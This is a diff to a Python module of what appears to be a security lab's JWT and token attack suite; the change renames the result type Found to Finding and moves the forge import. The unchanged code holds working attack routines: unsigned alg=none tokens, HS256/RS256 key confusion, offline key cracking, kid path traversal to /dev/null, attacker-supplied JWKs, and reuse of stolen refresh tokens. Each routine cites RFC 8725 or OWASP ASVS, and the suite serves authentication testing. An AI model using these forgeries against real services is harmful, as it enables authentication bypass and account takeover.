@@ -8,9 +8,9 @@ from __future__ import annotations
 from collections.abc import Iterator
 from typing import Any
 
-from labserver.kit import forge
-from labserver.kit.attacks.attack import Found, attack
+from labserver.kit.attacks.attack import Finding, attack
 from labserver.kit.attacks.scene import NotTried, Scene
+from labserver.kit.forgery import forge
 
 KEY_FILES = (
     "../static/pages.css",
@@ -22,14 +22,14 @@ KEY_FILES = (
 
 
 @attack("alg-none", "RFC 8725, 3.1 and 3.2")
-def alg_none(scene: Scene) -> Found:
+def alg_none(scene: Scene) -> Finding:
     """Write a token in the victim's name, say that it is not signed, and leave the signature out."""
     header, claims = scene.template()
-    return Found(*scene.present(forge.unsigned(claims, header)))
+    return Finding(*scene.present(forge.unsigned(claims, header)))
 
 
 @attack("alg-confusion", "RFC 8725, 3.1")
-def alg_confusion(scene: Scene) -> Found:
+def alg_confusion(scene: Scene) -> Finding:
     """Sign with the public key as if it were a shared secret, and call that HS256.
 
     The server publishes its key; if it lets the token choose the algorithm, it checks an HMAC with the very
@@ -45,11 +45,11 @@ def alg_confusion(scene: Scene) -> Found:
         for jwk in keys
         for secret in forge.public_bytes(jwk)
     )
-    return Found(*scene.present(forged))
+    return Finding(*scene.present(forged))
 
 
 @attack("weak-key", "RFC 8725, 3.5")
-def weak_key(scene: Scene) -> Found:
+def weak_key(scene: Scene) -> Finding:
     """Guess the key offline, from one token of one's own and a word list, and sign with it.
 
     The server sees nothing of the guessing: no request is sent meanwhile.
@@ -61,13 +61,13 @@ def weak_key(scene: Scene) -> Found:
     secret, guesses = forge.crack(scene.tokens(scene.target.attacker)["access_token"], forge.words())
     guessed = f"{guesses} guesses, {len(scene.exchanges) - before} requests sent while guessing"
     if secret is None:
-        return Found(False, f"{guessed}: no word is the key")
+        return Finding(False, f"{guessed}: no word is the key")
     got_in, told = scene.present([forge.hmac_signed(claims, header, secret)])
-    return Found(got_in, f"the key is a word, found after {guessed}; {told}")
+    return Finding(got_in, f"the key is a word, found after {guessed}; {told}")
 
 
 @attack("kid-path", "RFC 8725, 3.10")
-def kid_path(scene: Scene) -> Found:
+def kid_path(scene: Scene) -> Finding:
     """Name as key a file whose content everybody can fetch: the pages' own style sheet.
 
     Where the file lies from the server's point of view is guessed, and so is an empty one, /dev/null.
@@ -77,21 +77,21 @@ def kid_path(scene: Scene) -> Found:
     known = {path: answer.content for path in KEY_FILES} if answer.ok else {}
     known |= {"/dev/null": b"", "../../../../../../../../dev/null": b""}
     forged = (forge.hmac_signed(claims, header | {"kid": path}, content) for path, content in known.items())
-    return Found(*scene.present(forged))
+    return Finding(*scene.present(forged))
 
 
 @attack("trust-jwk", "RFC 8725, 3.10; RFC 7515, 4.1.3")
-def own_key(scene: Scene) -> Found:
+def own_key(scene: Scene) -> Finding:
     """Sign with a key of one's own, and send its public half along in the header."""
     header, claims = scene.template()
     bare = {name: value for name, value in header.items() if name != "kid"}
-    return Found(
+    return Finding(
         *scene.present([forge.signed_by_own_key(claims, one) for one in (header, bare)]),
     )
 
 
 @attack("no-audience", "RFC 8725, 3.9; RFC 9068, 4")
-def other_audience(scene: Scene) -> Found:
+def other_audience(scene: Scene) -> Finding:
     """Present a token that the same issuer signed for another service, in several shapes.
 
     The lab desk signs it, in the place of the other service's login.
@@ -103,28 +103,28 @@ def other_audience(scene: Scene) -> Found:
         claims | {"aud": []},
     ]
     shapes.append({name: value for name, value in claims.items() if name != "aud"})
-    return Found(*scene.present(scene.sign(header, shape) for shape in shapes))
+    return Finding(*scene.present(scene.sign(header, shape) for shape in shapes))
 
 
 @attack("no-expiry", "RFC 7519, 4.1.4; RFC 9068, 4")
-def expired(scene: Scene) -> Found:
+def expired(scene: Scene) -> Finding:
     """Present a token that ended an hour ago, and one that has no end. The lab desk signs them."""
     header, claims = scene.template()
     issued = int(claims["iat"])
     endless = {name: value for name, value in claims.items() if name != "exp"}
     shapes = (claims | {"iat": issued - 7200, "exp": issued - 3600}, endless)
-    return Found(*scene.present(scene.sign(header, shape) for shape in shapes))
+    return Finding(*scene.present(scene.sign(header, shape) for shape in shapes))
 
 
 @attack("refresh-as-access", "RFC 9068, 2.1; RFC 8725, 3.12")
-def refresh_as_access(scene: Scene) -> Found:
+def refresh_as_access(scene: Scene) -> Finding:
     """Use a stolen refresh token as if it were an access token: it lives two weeks, not fifteen minutes."""
     stolen = scene.tokens(scene.target.victim)["refresh_token"]
-    return Found(*scene.present([stolen]))
+    return Finding(*scene.present([stolen]))
 
 
 @attack("no-reuse-detection", "RFC 9700, 4.14.2")
-def reuse(scene: Scene) -> Found:
+def reuse(scene: Scene) -> Finding:
     """Use a stolen refresh token after the victim has used it."""
     stolen = scene.tokens(scene.target.victim, fresh=True)["refresh_token"]
     honest = scene.client(scene.target.victim).post("/token/refresh", json={"refresh_token": stolen})
@@ -132,27 +132,27 @@ def reuse(scene: Scene) -> Found:
         raise NotTried(f"an honest refresh is refused: {scene.tell(honest)}")
     answer = scene.client().post("/token/refresh", json={"refresh_token": stolen})
     if answer.status_code != 200:
-        return Found(False, scene.tell(answer))
+        return Finding(False, scene.tell(answer))
     got_in, told = scene.present([answer.json()["access_token"]])
-    return Found(got_in, f"{scene.tell(answer)}; {told}")
+    return Finding(got_in, f"{scene.tell(answer)}; {told}")
 
 
 @attack(None, "RFC 7515, 5.2")
-def changed_byte(scene: Scene) -> Found:
+def changed_byte(scene: Scene) -> Finding:
     """Change one character of the victim's good token, in nine places."""
-    return Found(*scene.present(forge.changed(scene.tokens(scene.target.victim)["access_token"])))
+    return Finding(*scene.present(forge.changed(scene.tokens(scene.target.victim)["access_token"])))
 
 
 @attack(None, "RFC 7515, 2; RFC 8725's successor (draft), 3.14")
-def another_spelling(scene: Scene) -> Found:
+def another_spelling(scene: Scene) -> Finding:
     """Spell the victim's good token in another way: padded, loosely written, one part too many."""
     token = scene.tokens(scene.target.victim)["access_token"]
-    spellings = [text for text in forge.respelt(token) if text.strip() != token]
-    return Found(*scene.present(spellings))
+    spellings = [text for text in forge.re_encoded(token) if text.strip() != token]
+    return Finding(*scene.present(spellings))
 
 
 @attack(None, "RFC 8725, 3.1")
-def promotion(scene: Scene) -> Found:
+def promotion(scene: Scene) -> Finding:
     """Write `admin` into one's own token, keep its signature or drop it, and knock at the admin's door."""
     own = scene.tokens(scene.target.attacker)["access_token"]
     head, _, signature = own.split(".")
@@ -162,12 +162,12 @@ def promotion(scene: Scene) -> Found:
         answer = client.get("/token/admin", headers={"Authorization": f"Bearer {token}"})
         told = scene.tell(answer)
         if answer.status_code == 200:
-            return Found(True, told)
-    return Found(False, told)
+            return Finding(True, told)
+    return Finding(False, told)
 
 
 @attack(None, "RFC 6750, 2.3; OWASP ASVS 5.0, 14.2.1")
-def token_in_url(scene: Scene) -> Found:
+def token_in_url(scene: Scene) -> Finding:
     """Put the victim's good token into the address, where logs and histories keep it."""
     token = scene.tokens(scene.target.victim)["access_token"]
     client, told = scene.client(), ""
@@ -175,12 +175,12 @@ def token_in_url(scene: Scene) -> Found:
         answer = client.get("/token/me", params={name: token})
         told = scene.tell(answer)
         if scene.opens(answer):
-            return Found(True, f"{told}, by ?{name}=")
-    return Found(False, told)
+            return Finding(True, f"{told}, by ?{name}=")
+    return Finding(False, told)
 
 
 @attack(None, "RFC 8725, 3.10; OWASP ASVS 5.0, 9.1.3")
-def key_by_url(scene: Scene) -> Found:
+def key_by_url(scene: Scene) -> Finding:
     """Name in the header an address where the key is to be fetched (jku, x5u), or bring a certificate (x5c).
 
     The address is the target's own, so nothing is sent to anybody else; the secret is empty.
@@ -188,19 +188,19 @@ def key_by_url(scene: Scene) -> Found:
     header, claims = scene.template()
     url = f"{scene.target.url}/.well-known/jwks.json"
     more: list[dict[str, Any]] = [{"jku": url}, {"x5u": url}, {"x5c": ["AAAA"]}, {"crit": ["exp"]}]
-    return Found(*scene.present(forge.hmac_signed(claims, header | one, b"") for one in more))
+    return Finding(*scene.present(forge.hmac_signed(claims, header | one, b"") for one in more))
 
 
 @attack(None, "RFC 9068, 2.1")
-def access_as_refresh(scene: Scene) -> Found:
+def access_as_refresh(scene: Scene) -> Finding:
     """Use a stolen access token as if it were a refresh token, and so live longer than it."""
     stolen = scene.tokens(scene.target.victim)["access_token"]
     answer = scene.client().post("/token/refresh", json={"refresh_token": stolen})
-    return Found(answer.status_code == 200, scene.tell(answer))
+    return Finding(answer.status_code == 200, scene.tell(answer))
 
 
 @attack(None, "OWASP ASVS 5.0, 7.4.1; RFC 9700, 4.14")
-def refresh_after_logout(scene: Scene) -> Found:
+def refresh_after_logout(scene: Scene) -> Finding:
     """Keep a copy of the refresh token, and use it after the victim has logged out."""
     stolen = scene.tokens(scene.target.victim, fresh=True)["refresh_token"]
     out = scene.client(scene.target.victim).post("/token/logout", json={"refresh_token": stolen})
@@ -209,15 +209,15 @@ def refresh_after_logout(scene: Scene) -> Found:
     for token in _copies(stolen, family):
         answer = scene.client().post("/token/refresh", json={"refresh_token": token})
         told, got_in = scene.tell(answer), got_in or answer.status_code == 200
-    return Found(got_in, f"logout {out.status_code}, then {told}")
+    return Finding(got_in, f"logout {out.status_code}, then {told}")
 
 
 @attack(None, "RFC 9700, 4.14.2; OWASP ASVS 5.0, 7.2.3")
-def made_up_refresh(scene: Scene) -> Found:
+def made_up_refresh(scene: Scene) -> Finding:
     """Know a refresh token's family, and make its secret up."""
     family = scene.tokens(scene.target.victim, fresh=True)["refresh_token"].partition(".")[0]
     answer = scene.client().post("/token/refresh", json={"refresh_token": f"{family}.{'A' * 43}"})
-    return Found(answer.status_code == 200, scene.tell(answer))
+    return Finding(answer.status_code == 200, scene.tell(answer))
 
 
 def _copies(token: str, family: str) -> Iterator[str]:
